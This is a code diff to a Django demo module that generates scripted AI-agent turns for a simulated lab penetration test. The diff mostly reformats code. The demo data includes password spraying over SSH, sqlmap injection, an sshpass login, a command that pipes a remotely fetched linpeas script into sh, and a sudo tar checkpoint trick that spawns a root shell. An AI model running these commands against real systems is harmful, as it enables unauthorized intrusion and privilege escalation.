@@ -18,14 +18,23 @@ import random
 import string
 import threading
 import time
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
-from typing import Any, Callable, Iterator
+from typing import Any
 
 from django.db import close_old_connections, connections
 
 from . import demo_tools as tools
 from .models import Chain, Flow, FlowStatus
-from .services import agent_create, chain_append, flow_create, flow_set_status, model_window_ensure, settings_save
+from .services import (
+    agent_create,
+    chain_append,
+    chain_request_compaction,
+    flow_create,
+    flow_set_status,
+    model_window_ensure,
+    settings_save,
+)
 
 __all__ = [
     "DEMO_MODEL", "DEMO_WINDOW_TOKENS", "DEMO_SETTINGS", "DEMO_HOSTS", "DemoHandle", "demo_start", "demo_stop",
@@ -72,9 +81,9 @@ def _turn(rng: random.Random, thought: str, calls: list[tuple[str, dict[str, Any
     ids = [_call_id(rng) for _ in calls]
     ai = {"role": "assistant", "content": thought, "tool_calls": [
         {"id": cid, "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}
-        for cid, (name, args, _) in zip(ids, calls)]}
+        for cid, (name, args, _) in zip(ids, calls, strict=False)]}
     return [ai] + [{"role": "tool", "tool_call_id": cid, "name": name, "content": out}
-                   for cid, (name, _, out) in zip(ids, calls)]
+                   for cid, (name, _, out) in zip(ids, calls, strict=False)]
 
 
 def _sh(cmd: str) -> dict[str, Any]:
@@ -92,7 +101,8 @@ def demo_turns(rng: random.Random, host: str, *, first: bool) -> Iterator[tuple[
     yield "append", _turn(rng, "Starting with host discovery on the lab subnet.",
                           [("terminal", _sh("nmap -sn 10.10.5.0/24"), tools.ping_sweep(rng))])
     yield "append", _turn(rng, f"{host} is up. Full TCP scan with service detection and default scripts.",
-                          [("terminal", _sh(f"nmap -sV -sC -p- -v --min-rate 2000 {host}"), tools.nmap_services(rng, host))])
+                          [("terminal", _sh(f"nmap -sV -sC -p- -v --min-rate 2000 {host}"),
+                            tools.nmap_services(rng, host))])
     yield "append", [{"role": "assistant", "content": f"{host} exposes SSH 22 (OpenSSH 8.2p1), Apache 2.4.41 on 80, "
                       "Samba 4.6.2 on 139/445, MySQL 5.7 on 3306 and Tomcat 9.0.31 on 8080. robots.txt disallows "
                       "/backup/, /admin/ and /dev/. Next: web enumeration."}]
@@ -105,9 +115,11 @@ def demo_turns(rng: random.Random, host: str, *, first: bool) -> Iterator[tuple[
          tools.gobuster(rng, url + "/")),
         ("terminal", _sh(f"nikto -h {url} -Tuning 123bde"), tools.nikto(rng, host, 80))])
     yield "append", _turn(rng, "The HTML comment and nikto both point at a config backup.",
-                          [("terminal", _sh(f"curl -s {url}/backup/config.php.bak"), tools.config_backup(rng, password))])
+                          [("terminal", _sh(f"curl -s {url}/backup/config.php.bak"),
+                            tools.config_backup(rng, password))])
     yield "append", [{"role": "assistant", "content": f"Credential found: svc_web / {password} (MySQL, from "
-                      f"{url}/backup/config.php.bak); the comment says the backup account shares it. /.git/ is exposed too."}]
+                      f"{url}/backup/config.php.bak); the comment says the backup account shares it. "
+                      "/.git/ is exposed too."}]
     yield "append", [{"role": "user", "content": "Validate those credentials against SSH and the database, and test "
                                                  "the item page for injection."}]
     yield "append", _turn(rng, "Spraying the found password over the known users on SSH.",
@@ -118,11 +130,13 @@ def demo_turns(rng: random.Random, host: str, *, first: bool) -> Iterator[tuple[
                             tools.sqlmap(rng, url + "/item.php?id=1"))])
     yield "compact", "Focus on the credentials, hashes and exploited services; keep exact hosts and paths."
     yield "append", _turn(rng, f"Logging in over SSH as {user}.",
-                          [("terminal", _sh(f"sshpass -p '{password}' ssh {user}@{host} 'id; uname -a; ls -la; cat user.txt'"),
+                          [("terminal",
+                            _sh(f"sshpass -p '{password}' ssh {user}@{host} 'id; uname -a; ls -la; cat user.txt'"),
                             tools.ssh_session(rng, host, user))])
     yield "append", [{"role": "user", "content": "You have a shell. Escalate privileges and collect proof."}]
     yield "append", _turn(rng, "Running linpeas for privilege escalation vectors.",
-                          [("terminal", _sh("curl -s http://10.10.5.1:8000/linpeas.sh | sh"), tools.linpeas(rng, user))])
+                          [("terminal", _sh("curl -s http://10.10.5.1:8000/linpeas.sh | sh"),
+                            tools.linpeas(rng, user))])
     yield "append", _turn(rng, "sudo allows tar as root without a password: GTFOBins checkpoint trick.",
                           [("terminal", _sh("sudo -l; sudo tar -cf /dev/null /dev/null --checkpoint=1 "
                                             "--checkpoint-action=exec=/bin/sh"), tools.sudo_root(rng))])
@@ -147,8 +161,6 @@ def _set_status(flow_id: int, status: str) -> None:
 
 
 def _request_compaction(chain: Chain, instructions: str) -> None:
-    from .services.views import chain_request_compaction
-
     chain_request_compaction(chain=chain, instructions=instructions, user=None)
 
 
